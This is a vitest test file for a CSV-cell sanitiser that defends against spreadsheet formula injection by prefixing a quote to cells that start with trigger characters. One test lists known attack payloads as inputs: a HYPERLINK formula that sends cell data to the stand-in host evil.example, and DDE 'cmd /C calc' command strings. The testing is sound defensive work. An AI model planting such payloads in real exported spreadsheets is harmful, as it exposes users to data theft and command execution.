import { describe, expect, it } from 'vitest';
import { neutraliseCell } from './csv-cell';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
// What may stand before a trigger: spaces, tabs, line breaks and NULs (removed first).
const BLANKS = [' ', '\t', '\n', '\r', '\0', '\v', '\f'];

/** Every string of up to `length` characters drawn from `alphabet`. */
function strings(alphabet: string[], length: number): string[] {
  let out = [''];
  const all = [''];
  for (let i = 0; i < length; i += 1) {
    out = out.flatMap((s) => alphabet.map((c) => s + c));
    all.push(...out);
  }
  return all;
}

describe('neutraliseCell', () => {
  it.each(TRIGGERS)('prefixes a quote to a cell opening with %j', (trigger) => {
    expect(neutraliseCell(`${trigger}cmd`)).toBe(`'${trigger}cmd`);
    expect(neutraliseCell(trigger)).toBe(`'${trigger}`);
  });

  it('catches the known payloads', () => {
    expect(neutraliseCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
    );
    expect(neutraliseCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(neutraliseCell('@SUM(1+1)*cmd|" /C calc"!A0')).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(neutraliseCell('+1+cmd|" /C calc"!A0')).toBe(`'+1+cmd|" /C calc"!A0`);
    expect(neutraliseCell('-2+3+cmd|" /C calc"!A0')).toBe(`'-2+3+cmd|" /C calc"!A0`);
    expect(neutraliseCell(' \t=cmd')).toBe("' \t=cmd");
  });

  it('prefixes a trigger after any run of leading blanks, up to three deep', () => {
    for (const lead of strings(BLANKS, 3)) {
      for (const trigger of TRIGGERS) {
        const cell = `${lead}${trigger}x`;
        const kept = cell.replace(/\0/g, '');
        expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(`'${kept}`);
      }
    }
  });

  it('leaves text alone after blanks that hold no tab or carriage return', () => {
    for (const lead of strings([' ', '\n', '\0', '\v', '\f'], 3)) {
      for (const text of ['abc', 'Board Meeting', '12', "'=already", '(=x)', '"=x"']) {
        const cell = `${lead}${text}`;
        expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(cell.replace(/\0/g, ''));
      }
    }
  });

  it('treats a leading tab or carriage return as a trigger of its own, even before plain text', () => {
    expect(neutraliseCell('\tabc')).toBe("'\tabc");
    expect(neutraliseCell('  \rabc')).toBe("'  \rabc");
    expect(neutraliseCell('\n\tabc')).toBe("'\n\tabc");
  });

  it('leaves a trigger alone inside the text', () => {
    for (const cell of ['a=b', 'x+y', '1-2', 'mail@example.org', 'total = 5', 'line\n=2', 'a\tb', 'a\rb']) {
      expect(neutraliseCell(cell)).toBe(cell);
    }
  });

  it('removes NUL characters everywhere, also ones hiding a trigger', () => {
    expect(neutraliseCell('a\0b\0')).toBe('ab');
    expect(neutraliseCell('\0=1+1')).toBe("'=1+1");
    expect(neutraliseCell('\0\0 \0@x')).toBe("' @x");
    expect(neutraliseCell('\0')).toBe('');
    expect(neutraliseCell('=\0cmd')).toBe("'=cmd");
  });

  it('passes numbers as numbers, negative ones included', () => {
    for (const n of [0, 1, -1, -12.5, 3.25, Number.MAX_SAFE_INTEGER, -0]) {
      expect(neutraliseCell(n)).toBe(n);
    }
  });

  it('answers an empty cell for nothing, and keeps an empty or blank text', () => {
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell(undefined)).toBe('');
    expect(neutraliseCell('')).toBe('');
    expect(neutraliseCell('   ')).toBe('   ');
    expect(neutraliseCell('\n')).toBe('\n');
  });

  it('keeps other scripts and symbols as they are', () => {
    for (const cell of ['ලයන්ස් සමාජය', 'லயன்ஸ் கழகம்', 'Café', '€5', '#1', '%', '*x']) {
      expect(neutraliseCell(cell)).toBe(cell);
    }
  });
});
